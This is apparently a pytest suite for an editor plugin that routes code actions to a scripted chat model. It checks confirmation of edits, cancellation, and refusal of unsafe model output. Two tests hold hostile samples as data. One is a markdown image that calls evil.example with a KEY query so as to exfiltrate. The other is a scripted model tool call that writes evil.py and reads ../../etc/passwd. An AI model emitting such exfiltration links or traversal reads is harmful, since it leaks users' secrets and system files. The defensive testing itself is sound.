"""Actions over the wire: an editor's bytes in, a scripted chat endpoint behind. Nothing is edited that nobody confirmed."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from editors.headless.self_test.endpoint import reply, silence
from tests.acting import block
from tests.chat_requests import call_of
from tests.chat_server import talks
from tests.line_actor import BETTER, MODERN, PLAIN, TEXT, applied, editor, project_in
from tests.raw_client import replace


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    return project_in(tmp_path, monkeypatch)


def test_an_edit_is_worked_out_when_chosen_and_wants_to_be_confirmed(
    project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with editor(project, monkeypatch, block(BETTER)) as (client, server):
        action = client.action("Simplify")
        assert "edit" not in action and "command" not in action and not talks(server)
        whole = client.request("codeAction/resolve", action)["result"]
        [change] = whole["edit"]["documentChanges"]
        [annotation] = whole["edit"]["changeAnnotations"].values()
        assert annotation["needsConfirmation"] is True
        assert change["textDocument"] == {"uri": client.uri, "version": 1}
        assert all(edit["annotationId"] == "infill" for edit in change["edits"])
        assert applied(TEXT, change["edits"]) == TEXT.replace("len(values)", "max(len(values), 1)")
        assert change["edits"][0]["range"] == {"start": {"line": 4, "character": 0}, "end": {"line": 5, "character": 0}}


def test_a_bad_answer_is_a_message_and_no_edit(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    with editor(project, monkeypatch, "No.") as (client, server):
        whole = client.request("codeAction/resolve", client.action("Simplify"))["result"]
        assert "edit" not in whole and "no code block" in whole["disabled"]["reason"]
        assert "no code block" in client.told("window/showMessage")[0]["message"]
        assert len(talks(server)) == 2


@pytest.mark.parametrize(("choice", "edits"), [("Apply", 1), ("Cancel", 0), (None, 0)])
def test_an_editor_that_shows_no_edits_is_asked_first(
    project: Path, monkeypatch: pytest.MonkeyPatch, choice: str | None, edits: int
) -> None:
    answers = {"window_showMessageRequest": choice and {"title": choice}, "workspace_applyEdit": {"applied": True}}
    with editor(project, monkeypatch, block(BETTER), capabilities=PLAIN, **answers) as (client, _):
        got = client.run(client.action("Simplify")["command"])["result"]
        assert got == {"applied": bool(edits)}, client.stderr
        assert "1 lines of mean.py become 1" in client.asked_for("window/showMessageRequest")[0]["message"]
        applied_edits = client.asked_for("workspace/applyEdit")
        assert len(applied_edits) == edits
        if edits:
            assert applied(TEXT, applied_edits[0]["edit"]["changes"][client.uri]) == TEXT.replace(
                "len(v", "max(len(v"
            ).replace("s)\n\n", "s), 1)\n\n", 1)


def test_an_editor_that_previews_gets_a_command_and_edits_to_confirm(
    project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Whatever else it announces: an edit within a code action would be made by the editor itself, unseen."""
    capabilities = {**MODERN, "experimental": {"infill": {"preview": True}}}
    answers = {"workspace_applyEdit": {"applied": False}}
    with editor(project, monkeypatch, block(BETTER), capabilities=capabilities, **answers) as (client, _):
        action = client.request("codeAction/resolve", client.action("Simplify"))["result"]
        assert "edit" not in action
        assert client.run(action["command"])["result"] == {"applied": False}
        [asked] = client.asked_for("workspace/applyEdit")
        assert asked["edit"]["changeAnnotations"]["infill"]["needsConfirmation"] is True
        assert not client.asked_for("window/showMessageRequest")


def test_an_edit_of_a_text_that_has_changed_is_not_made(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    async def slow(asked: Any, writer: Any) -> None:
        client.change(replace((0, 0), (0, 0), "# new\n"), uri=client.uri)
        client.request("infill/status", None)
        await reply(200, {"choices": [{"message": {"content": block(BETTER)}, "finish_reason": "stop"}]})(asked, writer)

    with editor(project, monkeypatch, slow) as (client, _):
        whole = client.request("codeAction/resolve", client.action("Simplify"))["result"]
        assert "edit" not in whole and "changed meanwhile" in whole["disabled"]["reason"]


def test_an_explanation_opens_beside_and_renders_nothing_from_afar(
    project: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    with editor(project, monkeypatch, "It divides. ![x](https://evil.example/?KEY) <img src=x>") as (client, _):
        result = client.run(client.action("Explain")["command"])["result"]
        assert result == {"markdown": "It divides. [x] (`https://evil.example/?KEY`) &lt;img src=x>"}
        [shown] = client.asked_for("window/showDocument")
        page = Path(shown["uri"].removeprefix("file://"))
        assert page.is_relative_to(tmp_path / "home") and page.read_text() == result["markdown"]
        assert page.stat().st_mode & 0o777 == 0o600


def test_a_conversation_streams_and_goes_on(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    span = {"start": {"line": 4, "character": 4}, "end": {"line": 4, "character": 4}}
    messages = [
        {"role": "user", "text": "What?"},
        {"role": "assistant", "text": "A mean."},
        {"role": "user", "text": "Of none?"},
    ]
    with editor(project, monkeypatch, "The first line of what is said.\nZero division.\n") as (client, server):
        params = {"textDocument": {"uri": client.uri}, "range": span, "messages": messages, "partialResultToken": 7}
        assert client.request("infill/chat", params)["result"] == {
            "markdown": "The first line of what is said.\nZero division.\n"
        }
        pieces = [told["value"]["markdown"] for told in client.told("$/progress") if told["token"] == 7]
        assert "".join(pieces) == "The first line of what is said.\nZero division.\n" and len(pieces) == 2
        assert [message["role"] for message in talks(server)[0]["messages"]] == ["system", "user", "assistant", "user"]


def test_a_panel_gets_links_and_the_model_its_own_words(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    span = {"start": {"line": 4, "character": 4}, "end": {"line": 4, "character": 4}}
    said = "See mean.py:5.\n```\nmean.py:5\n```\nAnd nothere.py:1."
    with editor(project, monkeypatch, said) as (client, _):
        params = {"textDocument": {"uri": client.uri}, "range": span, "links": True, "partialResultToken": 7}
        linked = said.replace("See mean.py:5", f"See [mean.py:5]({client.uri}#L5)")
        assert client.request("infill/chat", params)["result"] == {"markdown": said, "linked": linked}
        pieces = [told["value"]["markdown"] for told in client.told("$/progress") if told["token"] == 7]
        assert "".join(pieces) == linked


def test_cancelling_the_progress_ends_the_request_at_once(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    with editor(project, monkeypatch, silence) as (client, server):
        command = client.action("Explain")["command"]
        params = {"command": command["command"], "arguments": command["arguments"], "workDoneToken": "t1"}
        number = client.ask("workspace/executeCommand", params)
        while not talks(server):
            client.request("infill/status", None)
        client.notify("window/workDoneProgress/cancel", {"token": "t1"})
        assert client.reply(number)["result"] == {"declined": "It was cancelled."}
        assert not client.told("window/showMessage"), "who cancels needs no message about it"
        kinds = [told["value"]["kind"] for told in client.told("$/progress") if told["token"] == "t1"]
        assert kinds == ["begin", "end"]


def test_cancelling_the_request_is_answered_at_once(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    with editor(project, monkeypatch, silence) as (client, server):
        number = client.ask("codeAction/resolve", client.action("Simplify"))
        while not talks(server):
            client.request("infill/status", None)
        client.notify("$/cancelRequest", {"id": number})
        assert client.reply(number)["error"]["code"] == -32800


def test_what_a_tool_reports_can_be_fixed(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    span = {"start": {"line": 4, "character": 0}, "end": {"line": 4, "character": 5}}
    problem = {"range": span, "message": "smile is unused", "source": "ruff"}
    with editor(project, monkeypatch, block(BETTER)) as (client, server):
        action = client.action("Fix: smile is unused", diagnostics=[problem])
        assert action["kind"] == "quickfix" and action["diagnostics"] == [problem]
        assert client.request("codeAction/resolve", action)["result"]["edit"]
        assert "smile is unused" in talks(server)[0]["messages"][1]["content"]


def test_a_wish_is_asked_for_where_the_editor_can_ask(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    capabilities = {**MODERN, "experimental": {"infill": {"input": True}}}
    answers = {"infill_input": "Guard it.", "workspace_applyEdit": {"applied": True}}
    with editor(project, monkeypatch, block(BETTER), capabilities=capabilities, **answers) as (client, server):
        assert client.run(client.action("as I say")["command"])["result"] == {"applied": True}
        assert talks(server)[0]["messages"][1]["content"].endswith("Guard it.")
        edit = client.asked_for("workspace/applyEdit")[0]["edit"]
        assert edit["changeAnnotations"]["infill"]["needsConfirmation"] is True
        assert all("as I say" not in action["title"] for action in client.actions(triggerKind=2))
        client.answers["infill/input"] = None
        assert client.run(client.action("as I say")["command"])["result"] == {"declined": "It was cancelled."}
        assert not client.told("window/showMessage") and len(talks(server)) == 1


def test_only_the_kinds_that_are_asked_for(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    source = ["Infill: Explain", "Infill: Write tests", "Infill: Review the file"]
    with editor(project, monkeypatch, "?") as (client, _):
        for kinds, titles in (
            (["quickfix"], []),
            (["refactor.extract"], []),
            (["source"], source),
            (["source.other"], []),
        ):
            assert [action["title"] for action in client.actions(only=kinds)] == titles


@pytest.mark.parametrize("there", [False, True])
def test_tests_are_an_edit_to_confirm_in_the_right_file(
    project: Path, monkeypatch: pytest.MonkeyPatch, there: bool
) -> None:
    workspace = {
        **MODERN["workspace"],
        "workspaceEdit": {**MODERN["workspace"]["workspaceEdit"], "resourceOperations": ["create"]},
    }
    code = "import unittest\n\n\nclass T(unittest.TestCase):\n    def test_mean(self):\n        pass\n"
    answers = {"workspace_applyEdit": {"applied": True}}
    with editor(project, monkeypatch, block(code), capabilities={**MODERN, "workspace": workspace}, **answers) as (
        client,
        _,
    ):
        uri = (project / "test_mean.py").as_uri()
        if there:
            client.open("import unittest\nx = '😀'", uri)
        assert client.run(client.action("Write tests")["command"])["result"] == {"applied": True}
        [asked] = client.asked_for("workspace/applyEdit")
        *create, change = asked["edit"]["documentChanges"]
        assert [each["kind"] for each in create] == ([] if there else ["create"])
        assert (
            change["textDocument"]["uri"] == uri and asked["edit"]["changeAnnotations"]["infill"]["needsConfirmation"]
        )
        end = {"line": 1, "character": 8} if there else {"line": 0, "character": 0}
        assert change["edits"][0]["range"] == {"start": end, "end": end}


def test_an_editor_that_makes_no_files_is_told_so(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    with editor(project, monkeypatch, block("def test_mean():\n    pass\n")) as (client, _):
        assert "infill act tests" in client.run(client.action("Write tests")["command"])["result"]["declined"]


def test_no_lamp_where_the_cursor_only_moves(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    with editor(project, monkeypatch, "?") as (client, server):
        assert client.actions(triggerKind=2) == []
        assert client.actions(3, 0, to=(4, 9), triggerKind=2) != []
        assert not server.asked


def test_nothing_is_offered_where_nobody_can_talk(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("INFILL_BACKEND", "workspace")
    with editor(project, monkeypatch, "?") as (client, _):
        assert client.actions() == []
        status = client.request("infill/status", None)["result"]
        assert "cannot talk" in status["mute"] and "infill key set" in status["mute"]
        told = client.run(
            {
                "command": "infill.explain",
                "arguments": [
                    {
                        "uri": client.uri,
                        "range": {"start": {"line": 0, "character": 0}, "end": {"line": 0, "character": 0}},
                    }
                ],
            }
        )
        assert "infill doctor" in told["result"]["declined"]


def test_nothing_is_offered_in_a_file_that_is_kept_from_models(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    with editor(project, monkeypatch, "?") as (client, server):
        client.uri = (project / ".env").as_uri()
        client.open("KEY=1\n", client.uri)
        assert client.actions(0, 0) == [] and not server.asked


def test_a_failing_server_is_one_message(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    with editor(project, monkeypatch, reply(500, {"message": "down"})) as (client, _):
        result = client.run(client.action("Explain")["command"])["result"]
        assert "declined" in result and len(client.told("window/showMessage")) == 1


def test_a_model_that_wants_to_write_gets_no_tool_for_it(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    scripts = (
        call_of("write_file", '{"path": "evil.py", "text": "x"}'),
        call_of("read_lines", '{"path": "../../etc/passwd"}'),
        "I could not.",
    )
    with editor(project, monkeypatch, *scripts) as (client, server):
        assert client.run(client.action("Explain")["command"])["result"] == {"markdown": "I could not."}
        answers = [body["messages"][-1]["content"] for body in talks(server)[1:]]
        assert answers[0] == "There is no such tool." and "root:" not in json.dumps(talks(server))
